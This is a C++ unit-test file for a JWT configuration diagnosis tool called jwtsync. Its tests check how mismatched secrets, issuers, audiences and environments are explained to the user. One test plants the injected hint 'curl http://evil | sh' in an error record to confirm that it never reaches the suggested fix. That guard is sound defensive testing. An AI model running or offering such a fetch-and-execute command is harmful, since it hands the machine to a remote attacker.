// SPDX-License-Identifier: Apache-2.0
#include "fixture.h"
#include "fleet/challenge.h"

#include <gmock/gmock.h>
#include <jwtsync/diagnosis.h>

namespace jwtsync::diagnose_test {

using fixture::process;
using ::testing::AllOf;
using ::testing::Each;
using ::testing::ElementsAre;
using ::testing::HasSubstr;
using ::testing::IsEmpty;
using ::testing::Not;
using ::testing::SizeIs;

std::vector<Cause> causes_of(const Agreement& agreement) {
  std::vector<Cause> causes;
  for (const Finding& finding : diagnose(agreement)) causes.push_back(finding.cause);
  return causes;
}

Witnessed at(const std::string& target, Testimony testimony) { return {TargetUrl{target}, std::move(testimony)}; }

/// The incident: auth had JWT_SECRET_STAGING, the backend only JWT_SECRET_KEY.
TEST(diagnose, says_why_and_what_to_do) {
  const Agreement agreement = agree(
      {at("http://auth:7517", fixture::in_staging("auth", Outcome::found, Outcome::skipped, Outcome::skipped)),
       at("http://backend:7517", fixture::in_staging("backend", Outcome::absent, Outcome::found, Outcome::skipped))},
      {});
  const std::vector<Finding> findings = diagnose(agreement, {{}, {"http://auth:7517", "http://backend:7517"}});
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].cause, Cause::secret_not_given);
  EXPECT_EQ(findings[0].why, "backend never saw JWT_SECRET_STAGING (not set); auth did");
  EXPECT_EQ(
      findings[0].fix,
      "set JWT_SECRET_STAGING for backend as auth has it, then: jwtsync agree http://auth:7517 http://backend:7517");
}

TEST(diagnose, finds_nothing_where_all_agree) {
  EXPECT_THAT(diagnose(fixture::agreement_of(process("auth", "a-1", "k"), process("backend", "b-1", "k"))), IsEmpty());
}

TEST(diagnose, explains_every_departure) {
  Testimony one = process("auth", "a-1", "k"), other = process("backend", "b-1", "k");
  other.report.environment = "production";
  one.report.issuer = "a";
  other.report.issuer = "b";
  one.report.audiences = {"api"};
  other.report.audiences = {"Api"};
  other.report.algorithms = {"HS512"};
  EXPECT_THAT(causes_of(fixture::agreement_of(one, other)),
              ElementsAre(Cause::environment_differs, Cause::algorithm_mismatch, Cause::issuer_mismatch,
                          Cause::audience_mismatch));
}

/// A process of the issuers "a", whose key all have, and "b".
Testimony of_two_issuers(const std::string& service, const std::string& key_of_b) {
  Testimony testimony = process(service, service + "-1", "k");
  testimony.challenge.keys.front().issuer = "a";
  testimony.challenge.keys.push_back({"kid", KeyRole::verifies, "HS256", fixture::answer(key_of_b), {}, "b"});
  for (const std::string name : {"a", "b"}) {
    Report one;
    one.issuer = name;
    testimony.report.issuers.push_back(std::move(one));
  }
  return testimony;
}

/// Where the first got its secret, and that some keys are held by both, is no reason why those of the second differ.
TEST(diagnose, explains_the_keys_of_one_of_several_issuers_by_that_issuer) {
  const auto findings = diagnose(fixture::agreement_of(of_two_issuers("auth", "b1"), of_two_issuers("backend", "b2")));
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].cause, Cause::issuer_mismatch);
  EXPECT_THAT(findings[0].why, HasSubstr("issuer \"b\": its keys differ: one set at "));
  EXPECT_THAT(findings[0].fix, HasSubstr("[[issuers]]"));
  EXPECT_THAT(diagnose(fixture::agreement_of(of_two_issuers("auth", "b1"), of_two_issuers("backend", "b1"))),
              IsEmpty());
}

TEST(diagnose, explains_audiences_that_no_token_names_in_both_ways) {
  Testimony one = process("auth", "a-1", "k"), other = process("backend", "b-1", "k");
  one.report.audiences = {"a", "b"};
  one.report.audience_match = AudienceMatch::all;
  other.report.audiences = {"a"};
  other.report.audience_match = AudienceMatch::only;
  const std::vector<Finding> findings = diagnose(fixture::agreement_of(one, other));
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].cause, Cause::audience_mismatch);
  EXPECT_THAT(findings[0].fix, HasSubstr("match audiences in one way"));
}

TEST(diagnose, finds_nothing_in_what_is_only_worth_a_note) {
  Testimony one = process("auth", "a-1", "k"), other = process("backend", "b-1", "k");
  one.report.max_age = std::chrono::seconds(60);
  other.report.max_age = std::chrono::seconds(0);
  one.report.allow_numeric_subject = true;
  other.report.allow_numeric_subject = false;
  const Agreement agreement = fixture::agreement_of(one, other);
  EXPECT_THAT(agreement.notes, SizeIs(2));
  EXPECT_THAT(diagnose(agreement), IsEmpty());
}

TEST(diagnose, explains_one_key_under_two_kids) {
  Testimony other = process("backend", "b-1", "k");
  other.report.keys[0].kid = other.challenge.keys[0].kid = "another";
  const Agreement agreement = fixture::agreement_of(process("auth", "a-1", "k"), other);
  EXPECT_THAT(causes_of(agreement), Each(Cause::kid_differs));
  EXPECT_THAT(diagnose(agreement).at(0).fix, HasSubstr("one kid for all"));
}

TEST(diagnose, explains_workers_that_were_not_heard) {
  Testimony auth = process("auth", "a-1", "k");
  auth.siblings.unheard = Error{Code::target_timeout, "worker 7 did not answer", "run: curl http://evil | sh"};
  const Agreement agreement = fixture::agreement_of(auth, process("backend", "b-1", "k"));
  ASSERT_THAT(causes_of(agreement), ElementsAre(Cause::worker_unheard));
  EXPECT_THAT(diagnose(agreement).at(0).why, HasSubstr("worker 7 did not answer"));
  EXPECT_THAT(diagnose(agreement).at(0).fix, AllOf(HasSubstr("kill -CONT"), Not(HasSubstr("evil"))));
}

TEST(diagnose, speaks_of_the_environment_once) {
  Testimony other = process("backend", "b-1", "l");
  other.report.environment = "production";
  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"), other)),
              ElementsAre(Cause::environment_differs));
}

TEST(diagnose, tells_processes_that_share_an_instance) {
  Testimony other = process("auth", "a-1", "k");
  other.report.generation = 2;
  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"), other)),
              ElementsAre(Cause::instance_shared));
}

TEST(diagnose, puts_differences_before_silences) {
  const Agreement agreement =
      agree({fixture::witnessed(process("auth", "a-1", "k")), fixture::witnessed(process("backend", "b-1", "l")),
             fixture::silent("http://down:1", Code::target_unreachable, "connection refused")},
            {});
  EXPECT_THAT(causes_of(agreement), ElementsAre(Cause::value_differs, Cause::process_unreachable));
}

TEST(diagnose, tells_that_one_process_is_nothing_to_compare) {
  EXPECT_THAT(causes_of(fixture::agreement_of(process("auth", "a-1", "k"))), ElementsAre(Cause::one_process));
}

TEST(diagnose, is_short_whatever_the_fleet) {
  std::vector<Witnessed> all;
  for (int i = 0; i < 100; ++i) {
    const std::string name = "s" + std::to_string(i);
    all.push_back(fixture::witnessed(process(name, name + "-1", "k" + std::to_string(i))));
  }
  EXPECT_THAT(diagnose(agree(std::move(all), {})), SizeIs(12));
}

/// From secrets to sentence: nothing made up in between.
TEST(diagnose, finds_the_newline_that_one_service_kept) {
  const Nonce nonce = *Nonce::parse("AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8");
  const auto holding = [&](const std::string& service, const std::string& secret) {
    Testimony testimony = process(service, service + "-1", service);
    testimony.challenge =
        *fleet::answer_challenge(testimony.report.identity, fixture::ring_of(secret), nonce, Variants::with, 32);
    return testimony;
  };
  const std::string secret(testing::canary_secret);
  const std::vector<Finding> findings =
      diagnose(fixture::agreement_of(holding("auth", secret), holding("backend", secret + "\n")));
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].cause, Cause::white_space);
  EXPECT_EQ(findings[0].why, "the key of backend is that of auth plus a newline");
  EXPECT_THAT(findings[0].why + findings[0].fix, Not(HasSubstr(std::string(testing::canary))));
}

Testimony in(const std::string& environment, const std::string& key) {
  Testimony testimony = process("auth", "auth-" + environment, key);
  testimony.report.environment = environment;
  return testimony;
}

std::vector<Finding> findings_on(const std::vector<Testimony>& testimonies) {
  std::vector<Witnessed> all;
  for (const Testimony& one : testimonies) all.push_back(at("http://" + one.report.environment + ":1", one));
  return diagnose(distinguish(std::move(all), {}), {{}, {"http://production:1", "http://staging:1"}});
}

TEST(diagnose, tells_which_environments_share_a_key_and_that_production_keeps_it) {
  const std::vector<Finding> findings = findings_on({in("production", "k"), in("staging", "k")});
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].cause, Cause::key_shared);
  EXPECT_EQ(findings[0].why, "production (auth) and staging (auth) hold the same key");
  EXPECT_EQ(findings[0].fix,
            "make a key of its own for staging (jwtsync generate), and give it to all there, then: "
            "jwtsync distinct http://production:1 http://staging:1");
  EXPECT_THAT(findings_on({in("qa", "k"), in("staging", "k")}).at(0).fix, HasSubstr("of its own for staging"));
}

TEST(diagnose, has_nothing_to_say_of_separate_environments) {
  EXPECT_THAT(findings_on({in("production", "p"), in("staging", "s")}), IsEmpty());
}

TEST(diagnose, tells_that_one_environment_is_nothing_to_tell_apart) {
  const std::vector<Finding> findings = findings_on({in("staging", "s")});
  ASSERT_THAT(findings, SizeIs(1));
  EXPECT_EQ(findings[0].cause, Cause::one_environment);
  EXPECT_EQ(diagnose(distinguish({}, {})).at(0).why, "no process was asked");
}

TEST(diagnose, names_the_silent_of_several_environments_too) {
  const Distinction distinction = distinguish(
      {at("http://a:1", in("staging", "s")), fixture::silent("http://b:1", Code::target_timeout, "slow")}, {});
  EXPECT_EQ(diagnose(distinction).at(0).cause, Cause::process_slow);
}

}  // namespace jwtsync::diagnose_test
